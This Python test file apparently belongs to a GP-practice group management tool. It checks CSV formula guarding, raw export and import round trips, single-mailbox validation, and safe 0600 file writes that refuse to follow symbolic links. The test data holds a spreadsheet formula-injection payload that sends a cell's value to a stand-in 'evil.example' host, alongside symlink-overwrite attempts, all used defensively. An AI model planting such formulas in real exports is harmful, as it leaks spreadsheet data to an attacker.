#!/usr/bin/env python3
"""What ppgd writes for people to open: CSV cells a spreadsheet would run as
formulas get a leading ' (member export, results --csv), --raw writes them
exactly and import reads either back as it was; backups, exports and report
pages go to a new 0600 file, never into an existing file or through a
symbolic link; --email-from takes one mailbox, not two."""

import csv
import io
import os
import sqlite3
import stat
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import ppgdtest as t  # noqa: E402
import test_reports  # noqa: E402  (its seed: a survey with 30 responses)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def rows(text):
    return list(csv.reader(io.StringIO(text)))


def mode(path):
    return stat.S_IMODE(os.lstat(path).st_mode)


env = t.TestEnv("exports")
rc, out, err = env.ppgd("init")
t.check_eq(rc, 0, "init: " + err)

# ---- --email-from: one mailbox ------------------------------------------------
for good in ["practice@example.org", '"Riverside, GP" <practice@example.org>']:
    rc, out, err = env.ppgd("practice", "add", "G%d" % len(good), "--name", "G",
                            "--email-from", good)
    t.check_eq(rc, 0, "--email-from %s accepted (%s)" % (good, err))
for bad in ["a@example.org, b@example.org", "A <a@example.org> <b@example.org>",
            "a@example.org b@example.org", "A <a@example.org>, b@example.org"]:
    rc, out, err = env.ppgd("practice", "add", "B1", "--name", "B",
                            "--email-from", bad)
    t.check(rc != 0 and "one email address" in err,
            "--email-from refuses two mailboxes: %s (rc %d)" % (bad, rc))

# ---- member export: formulas guarded, --raw exact, import round trips ---------
rc, out, err = env.ppgd("practice", "add", "A81001", "--name", "Riverside")
t.check_eq(rc, 0, "practice add: " + err)
rc, out, err = env.ppgd("member", "add", "--practice", "A81001",
                        "--first-name", FORMULA, "--last-name", "-2+3",
                        "--email", "ann@example.org", "--mobile", "07700900123")
t.check_eq(rc, 0, "member add: " + err)
rc, out, err = env.ppgd("member", "add", "--practice", "A81001",
                        "--first-name", "'=already quoted", "--last-name", "@SUM(1)",
                        "--email", "bob@example.org")
t.check_eq(rc, 0, "member add: " + err)

rc, out, err = env.ppgd("member", "export", "--practice", "A81001")
t.check_eq(rc, 0, "member export: " + err)
r = rows(out)
head = r[0]
first, last, mobile = (head.index("first_name"), head.index("last_name"),
                       head.index("mobile"))
t.check_eq(r[1][first], "'" + FORMULA, "export: a formula cell gets a leading '")
t.check_eq(r[1][last], "'-2+3", "export: a cell starting with - gets a '")
t.check_eq(r[1][mobile], "+447700900123", "export: a phone number is left as it is")
t.check_eq(r[2][last], "'@SUM(1)", "export: a cell starting with @ gets a '")

rc, raw, err = env.ppgd("member", "export", "--practice", "A81001", "--raw")
t.check_eq(rc, 0, "member export --raw: " + err)
t.check_eq(rows(raw)[1][first], FORMULA, "export --raw: the cell exactly")
t.check_eq(rows(raw)[2][first], "'=already quoted", "export --raw: a ' kept")

# Import each into a fresh database: the guarded file with the guard undone,
# the raw file with --raw; either way the register comes back as it was.
for name, text, flags in [("guarded", out, []), ("raw", raw, ["--raw"])]:
    other = t.TestEnv("exports-" + name)
    other.ppgd("init")
    other.ppgd("practice", "add", "A81001", "--name", "Riverside")
    path = other.path("in.csv")
    with open(path, "w", newline="") as f:
        f.write(text)
    rc, o, err = other.ppgd("member", "import", path, "--practice", "A81001",
                            *flags)
    t.check_eq(rc, 0, "import of the %s export: %s" % (name, err))
    rc, again, err = other.ppgd("member", "export", "--practice", "A81001",
                                "--raw")
    strip = lambda rr: [[c for i, c in enumerate(x) if head[i] not in
                         ("id", "joined_at", "created_at", "updated_at",
                          "term_ends_at")] for x in rr]
    t.check_eq(strip(rows(again)), strip(rows(raw)),
               "import of the %s export round-trips" % name)

# ---- results --csv ---------------------------------------------------------------
db = env.sections["daemon"]["database"]
c = sqlite3.connect(db)
c.execute("DELETE FROM members")
c.execute("DELETE FROM practices")
c.execute("INSERT INTO practices (id, code, name, created_at) VALUES (1, 'P1', 'P', 0)")
c.commit()
c.close()
test_reports.seed(db)
c = sqlite3.connect(db)
c.execute("INSERT INTO answers VALUES (2, 'good', ?, NULL)", (FORMULA,))
c.commit()
c.close()
rc, out, err = env.ppgd("results", "fft", "--practice", "P1", "--csv")
t.check_eq(rc, 0, "results --csv: " + err)
labels = [x[4] for x in rows(out) if x[0] == "good" and x[3] == "answer"]
t.check("'" + FORMULA in labels, "results --csv: a formula answer gets a ' (%r)"
        % labels)
t.check(FORMULA not in labels, "results --csv: no cell starts with =")
rc, out, err = env.ppgd("results", "fft", "--practice", "P1", "--csv", "--raw")
labels = [x[4] for x in rows(out) if x[0] == "good" and x[3] == "answer"]
t.check(FORMULA in labels, "results --csv --raw: the answer exactly")

# ---- new private files, never through a link ----------------------------------
victim = env.path("victim.txt")
for what, args in [
    ("backup", ["backup"]),
    ("member export", ["member", "export", "--practice", "P1", "-o"]),
    ("results --html", ["results", "fft", "--practice", "P1", "--html"]),
]:
    target = env.path("out-" + what.replace(" ", "-"))
    with open(target, "w") as f:
        f.write("old")
    os.chmod(target, 0o644)
    rc, out, err = env.ppgd(*args, target)
    t.check_eq(rc, 0, "%s onto an existing file: %s" % (what, err))
    t.check_eq(mode(target), 0o600, "%s: the file is 0600, not the old 0644"
               % what)
    with open(victim, "w") as f:
        f.write("precious")
    os.chmod(victim, 0o644)
    link = env.path("link-" + what.replace(" ", "-"))
    os.symlink(victim, link)
    rc, out, err = env.ppgd(*args, link)
    t.check_eq(rc, 0, "%s onto a symbolic link: %s" % (what, err))
    with open(victim) as f:
        t.check_eq(f.read(), "precious", "%s does not write through a link" % what)
    t.check(not os.path.islink(link) and mode(link) == 0o600,
            "%s replaces the link with a new 0600 file" % what)
    left = [n for n in os.listdir(env.dir) if ".tmp." in n]
    t.check_eq(left, [], "%s leaves no temporary file" % what)
c = sqlite3.connect(env.path("out-backup"))
t.check_eq(c.execute("SELECT count(*) FROM responses").fetchone()[0], 30,
           "the backup is a whole database")
c.close()

t.finish()
